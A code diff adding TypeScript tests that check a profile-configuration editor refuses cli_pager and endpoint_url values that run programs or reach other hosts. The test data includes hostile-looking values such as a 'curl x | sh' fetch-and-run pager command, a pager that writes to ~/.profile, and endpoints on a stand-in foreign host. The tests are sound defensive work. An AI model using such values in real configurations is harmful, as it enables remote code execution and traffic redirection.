@@ -162,6 +162,56 @@ describe('further keys', () => {
   });
 });
 
+describe('further keys that make tools run a program or reach another host', () => {
+  const reaching = [
+    ['cli_pager', 'sh -c "curl x | sh"'],
+    ['cli_pager', '/tmp/less'],
+    ['cli_pager', 'less -o/home/user/.profile'],
+    ['endpoint_url', 'https://elsewhere.example'],
+    ['endpoint_url', 'http://127.0.0.1.elsewhere.example'],
+  ] as const;
+
+  it.each(reaching)('are not written by the window: %s = %s', async (key, value) => {
+    const { intents, input, save, text } = await setUp();
+    const refused = { error: { code: 'input.key-not-here', params: { key } } };
+    const extra = { [key]: value };
+    expect([
+      await intents.profiles.preview(input({ extra }), window),
+      await save({ extra }),
+      text(),
+    ]).toMatchObject([refused, refused, null]);
+  });
+
+  it.each(reaching)('stay where they stand in the file already: %s = %s', async (key, value) => {
+    const { save, text, files, configFile } = await setUp();
+    valueOf(await save());
+    files.foreignWrite(
+      configFile,
+      (text() ?? '').replace('output = json', `output = json\n${key} = ${value}`),
+    );
+    valueOf(await save({ region: 'us-west-2', extra: { [key]: value } }));
+    expect(text()).toContain(`${key} = ${value}\n`);
+    valueOf(await save({ region: 'us-west-2', extra: { [key]: null } }));
+    expect(text()).not.toContain(key);
+  });
+
+  it.each(reaching)('are written for the command line: %s = %s', async (key, value) => {
+    const { intents, input, text } = await setUp();
+    const commandLine = { origin: 'command-line' as const };
+    valueOf(await intents.profiles.save(input({ extra: { [key]: value } }), null, commandLine));
+    expect(text()).toContain(`${key} = ${value}\n`);
+  });
+
+  it.each([
+    ['cli_pager', 'less -R'],
+    ['endpoint_url', 'http://127.0.0.1:4566'],
+  ])('are written by the window as far as they do neither: %s = %s', async (key, value) => {
+    const { save, text } = await setUp();
+    valueOf(await save({ extra: { [key]: value } }));
+    expect(text()).toContain(`${key} = ${value}\n`);
+  });
+});
+
 describe('the details of a profile', () => {
   it('are what would be saved to leave it as it is', async () => {
     const { intents, save, text, files, configFile } = await setUp();
